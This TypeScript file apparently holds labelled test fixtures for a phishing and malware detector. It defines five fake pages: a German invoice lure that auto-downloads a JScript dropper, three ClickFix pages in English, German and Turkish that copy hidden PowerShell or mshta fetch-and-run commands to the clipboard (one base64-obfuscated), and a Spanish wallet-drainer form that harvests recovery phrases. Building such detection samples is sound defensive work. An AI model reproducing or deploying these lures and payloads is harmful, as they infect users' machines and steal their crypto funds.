import type { Entry } from '../entry.js';
import { cfb, iso, lnk, pe, zip } from '../parts/e-bin.js';
import { doc, fileRoute, htmlRoute, jsonRoute, jsRoute } from '../parts/z-kit.js';

export const entries: Entry[] = [
{
  id: 'z-mal-de-rechnung-zip-js-mahnung',
  label: 'malware',
  kind: 'invoice-malware',
  url: 'https://kundenportal.rechnung-mahnung24.de/dokumente/RE-2026-11-4471',
  routes: {
    'kundenportal.rechnung-mahnung24.de/dokumente/RE-2026-11-4471': htmlRoute(doc({
      lang: 'de',
      title: 'Rechnung RE-2026-11-4471 – Zahlungserinnerung',
      css: 'body{font-family:Arial;background:#f0f0f0;margin:0}.w{max-width:560px;margin:50px auto;background:#fff;padding:28px;border-top:5px solid #004a99}.file{display:flex;gap:12px;align-items:center;border:1px solid #ddd;padding:12px;margin:16px 0}.ic{width:40px;height:50px;background:#c00;color:#fff;font-size:11px;text-align:center;line-height:50px}a.b{background:#004a99;color:#fff;padding:11px 22px;text-decoration:none;display:inline-block}',
      body: `<div class="w"><h2>2. Mahnung – offene Rechnung</h2><p>Sehr geehrte Damen und Herren,</p><p>trotz unserer Zahlungserinnerung konnten wir bis heute keinen Zahlungseingang zu der unten aufgeführten Rechnung feststellen. Bitte prüfen Sie das angehängte Dokument. Bei Nichtzahlung bis zum 05.12.2026 übergeben wir den Vorgang an unser Inkassobüro.</p>
<div class="file"><div class="ic">PDF</div><div><b>Rechnung_RE-2026-11-4471.pdf</b><br><small>Geschützt – Vorschau nicht verfügbar · 214 KB</small></div></div>
<a class="b" id="dl" href="/dokumente/download/Rechnung_RE-2026-11-4471.zip">Dokument herunterladen</a>
<p style="font-size:12px;color:#777">Mit freundlichen Grüßen<br>Buchhaltung · Schneider &amp; Partner Logistik GmbH</p></div>
<script>setTimeout(function(){document.getElementById('dl').click()},2500)</script>`,
    })),
    'kundenportal.rechnung-mahnung24.de/dokumente/download/Rechnung_RE-2026-11-4471.zip': fileRoute(zip([{ name: 'Rechnung_RE-2026-11-4471.pdf.js', data: 'var s=new ActiveXObject("WScript.Shell");var u="https://cdn-static.rechnung-mahnung24.de/a/upd.ps1";s.Run("powershell -w hidden -ep bypass -c \\"iex(New-Object Net.WebClient).DownloadString(\'"+u+"\')\\"",0);' }]), 'application/zip', 'Rechnung_RE-2026-11-4471.zip'),
  },
},
{
  id: 'z-clickfix-cloudflare-verify-run-dialog',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://verify.tickets-eventim-resale.com/cdn-cgi/challenge',
  routes: {
    'verify.tickets-eventim-resale.com/cdn-cgi/challenge': htmlRoute(doc({
      lang: 'en',
      title: 'Just a moment...',
      css: 'body{font-family:system-ui,-apple-system,"Segoe UI",Roboto,Arial;margin:0;background:#fff;color:#313131}.m{max-width:640px;margin:80px auto;padding:0 20px}.cb{border:1px solid #e0e0e0;background:#fafafa;padding:16px;display:flex;align-items:center;gap:12px;width:300px;cursor:pointer}.cb span{width:24px;height:24px;border:2px solid #666;background:#fff}.ov{display:none;position:fixed;inset:0;background:rgba(0,0,0,.5)}.bx{background:#fff;max-width:460px;margin:100px auto;padding:24px;border-radius:6px}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 5px}.ft{font-size:12px;color:#888;margin-top:60px}',
      body: `<div class="m"><h1>tickets-eventim-resale.com</h1><h2 style="font-weight:400">Verify you are human by completing the action below.</h2>
<div class="cb" onclick="v()"><span></span> I'm not a robot</div>
<p>tickets-eventim-resale.com needs to review the security of your connection before proceeding.</p>
<div class="ft">Ray ID: 8e1f2a77bc91d402 · Performance &amp; security by Cloudflare</div></div>
<div class="ov" id="o"><div class="bx"><h3>Verification steps</h3><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol><p style="font-size:13px;color:#666">This completes the verification. Ray ID: 8e1f2a77bc91d402</p></div></div>
<script>
function v(){var c='powershell -w h -nop -c "iex(irm https://verify.tickets-eventim-resale.com/cdn-cgi/v.txt)" # \\u2705 I am not a robot - reCAPTCHA Verification ID: 4471';
var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();try{navigator.clipboard.writeText(c)}catch(e){}
document.getElementById('o').style.display='block';}
</script>`,
    })),
    'verify.tickets-eventim-resale.com/cdn-cgi/v.txt': { status: 200, headers: { 'content-type': 'text/plain' }, body: '$d="$env:APPDATA\\svc";mkdir $d -Force|Out-Null;iwr "https://verify.tickets-eventim-resale.com/cdn-cgi/u.zip" -OutFile "$d\\u.zip";Expand-Archive "$d\\u.zip" $d -Force;Start-Process "$d\\client32.exe"' },
  },
},
{
  id: 'z-clickfix-de-word-schriftart-fehlt',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://docs-online.vertrag-ansicht.de/view/Kaufvertrag_Wohnung.docx',
  routes: {
    'docs-online.vertrag-ansicht.de/view/Kaufvertrag_Wohnung.docx': htmlRoute(doc({
      lang: 'de',
      title: 'Kaufvertrag_Wohnung.docx – Word Online',
      css: 'body{margin:0;font-family:"Segoe UI",Arial;background:#f3f2f1}.rb{background:#2b579a;color:#fff;padding:10px 20px}.pg{max-width:700px;margin:20px auto;background:#fff;height:700px;padding:50px;filter:blur(3px);color:#444}.dlg{position:fixed;top:120px;left:50%;transform:translateX(-50%);background:#fff;width:500px;box-shadow:0 8px 30px rgba(0,0,0,.35);border-top:4px solid #c50f1f}.dlg div{padding:20px}button{background:#2b579a;color:#fff;border:0;padding:10px 22px}',
      body: `<div class="rb">Word · Kaufvertrag_Wohnung.docx · Schreibgeschützt</div>
<div class="pg"><h2>Kaufvertrag über Wohnungseigentum</h2><p>Verhandelt zu München am … Vor mir, dem Notar … erschienen heute …</p><p>§ 1 Grundbuchstand … § 2 Kaufgegenstand …</p></div>
<div class="dlg"><div><h3>Die Schriftart „Calibri Pro“ wurde nicht gefunden</h3><p>Das Dokument kann nicht korrekt angezeigt werden. Klicken Sie auf „Reparieren“, um die fehlende Schriftart zu installieren.</p><button id="fix">Reparieren</button><div id="ins" style="display:none;padding:10px 0 0"><p><b>So schließen Sie die Installation ab:</b></p><p>1. Drücken Sie <b>Win + X</b> und wählen Sie <b>Terminal</b><br>2. Fügen Sie den Befehl mit <b>Strg + V</b> ein<br>3. Drücken Sie <b>Eingabe</b></p></div></div></div>
<script>
document.getElementById('fix').onclick=function(){var p=['msh','ta.exe ','https://docs-online.vertrag-ansicht.de/','fonts/calibri.hta'];navigator.clipboard.writeText(p.join('')+'  # Microsoft Office Font Installer').catch(function(){});document.getElementById('ins').style.display='block';};
</script>`,
    })),
    'docs-online.vertrag-ansicht.de/fonts/calibri.hta': { status: 200, headers: { 'content-type': 'application/hta' }, body: '<html><head><HTA:APPLICATION SHOWINTASKBAR="no" WINDOWSTATE="minimize"><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -ep bypass -w hidden -c iwr https://docs-online.vertrag-ansicht.de/fonts/f.ps1|iex",0:window.close</script></head></html>' },
  },
},
{
  id: 'z-clickfix-tr-dogrulama-kargo-takip',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://kargo-takip-sorgu.com.tr-verify.net/dogrula',
  routes: {
    'kargo-takip-sorgu.com.tr-verify.net/dogrula': htmlRoute(doc({
      lang: 'tr',
      title: 'Güvenlik doğrulaması – Kargo Takip',
      css: 'body{margin:0;font-family:Arial;background:#f4f6f8}.c{max-width:440px;margin:80px auto;background:#fff;padding:26px;border-radius:8px;box-shadow:0 2px 10px #0001}.r{display:flex;align-items:center;gap:10px;border:1px solid #ddd;padding:14px;cursor:pointer}.r i{width:22px;height:22px;border:2px solid #999;border-radius:3px}#s{display:none;background:#fffbe6;border:1px solid #f0c36d;padding:12px;margin-top:14px}',
      body: `<div class="c"><h3>Kargonuzu görüntülemek için doğrulama gerekli</h3><p>Gönderi sorgulama sistemimizi botlardan korumak için lütfen robot olmadığınızı doğrulayın.</p>
<div class="r" id="r"><i></i> Ben robot değilim</div>
<div id="s"><b>Doğrulama adımları:</b><br>1. Klavyenizde <b>Windows + R</b> tuşlarına basın<br>2. Açılan pencereye <b>CTRL + V</b> ile yapıştırın<br>3. <b>Enter</b> tuşuna basın<br><small>Doğrulama kimliği: TR-8841-Q</small></div></div>
<script>
var k=atob('Y21kIC9jIHN0YXJ0IC9taW4gcG93ZXJzaGVsbCAtdyBoIC1jICJpcm0gaHR0cHM6Ly9rYXJnby10YWtpcC1zb3JndS5jb20udHItdmVyaWZ5Lm5ldC9jLnBzMXxpZXgi');
document.getElementById('r').addEventListener('click',function(){navigator.clipboard.writeText(k+' :: Dogrulama TR-8841-Q').then(function(){},function(){});document.getElementById('s').style.display='block';});
</script>`,
    })),
  },
},
{
  id: 'z-drain-es-wallet-sync-validacion',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://dapp-sincronizar-wallet.app/validar',
  routes: {
    'dapp-sincronizar-wallet.app/validar': htmlRoute(doc({
      lang: 'es',
      title: 'Wallet Sync – Validación de billetera | Resolver problemas',
      css: 'body{margin:0;font-family:Arial;background:#10131a;color:#e6e6e6}.w{max-width:700px;margin:30px auto;padding:0 20px}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:12px}.g div{background:#1b2030;padding:16px;border-radius:10px;text-align:center;cursor:pointer}.m{display:none;position:fixed;inset:0;background:rgba(0,0,0,.7)}.m form{background:#1b2030;max-width:440px;margin:80px auto;padding:20px;border-radius:12px}textarea{width:100%;height:90px;box-sizing:border-box}button{background:#3b82f6;color:#fff;border:0;padding:11px;width:100%;border-radius:8px;margin-top:8px}',
      body: `<div class="w"><h1>Protocolo abierto para sincronizar billeteras</h1><p>Seleccione un problema: Migración · Reclamar tokens · Validación · Transacción retrasada · Desbloquear cuenta · NFT faltantes</p>
<div class="g"><div onclick="o()">Migración</div><div onclick="o()">Reclamar airdrop</div><div onclick="o()">Validación KYC</div><div onclick="o()">Saldo no visible</div><div onclick="o()">Transacción pendiente</div><div onclick="o()">Rectificación</div></div></div>
<div class="m" id="m"><form id="f"><h3>Importar billetera (MetaMask / Trust Wallet / Phantom)</h3><p>Introduzca su frase de recuperación de 12 o 24 palabras, separadas por espacios.</p><textarea name="phrase" placeholder="frase de recuperación"></textarea><button>Validar</button></form></div>
<script>function o(){document.getElementById('m').style.display='block'}document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/validar/api.php',{method:'POST',body:new FormData(this)}).then(function(){alert('Error de validación. Inténtelo de nuevo más tarde.')})}</script>`,
    })),
    'dapp-sincronizar-wallet.app/validar/api.php': jsonRoute({ status: 'ok' }),
  },
},
];
